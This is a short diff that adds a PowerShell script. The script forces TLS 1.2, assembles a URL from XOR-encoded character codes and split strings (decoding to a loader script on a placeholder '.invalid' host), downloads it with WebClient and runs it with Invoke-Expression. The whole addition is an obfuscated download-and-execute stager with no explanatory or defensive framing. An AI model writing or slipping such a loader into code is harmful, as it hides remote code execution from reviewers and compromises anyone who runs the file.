@@ -1,0 +1,5 @@
+[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
+$url     =   ((-join      ('51,47,47,43'      -split ',' |      ForEach-Object     {    [char]($_  -bxor 0x5b) }))+(-join     (('96,117,'+'117,59,42') -split  ',' |     ForEach-Object     { [char]($_ -bxor   0x5a)   }))+('i-gateway.'+'invalid/loader16.ps1'))
+$client = New-Object Net.WebClient
+$payload      =     $client.DownloadString($url)
+Invoke-Expression $payload
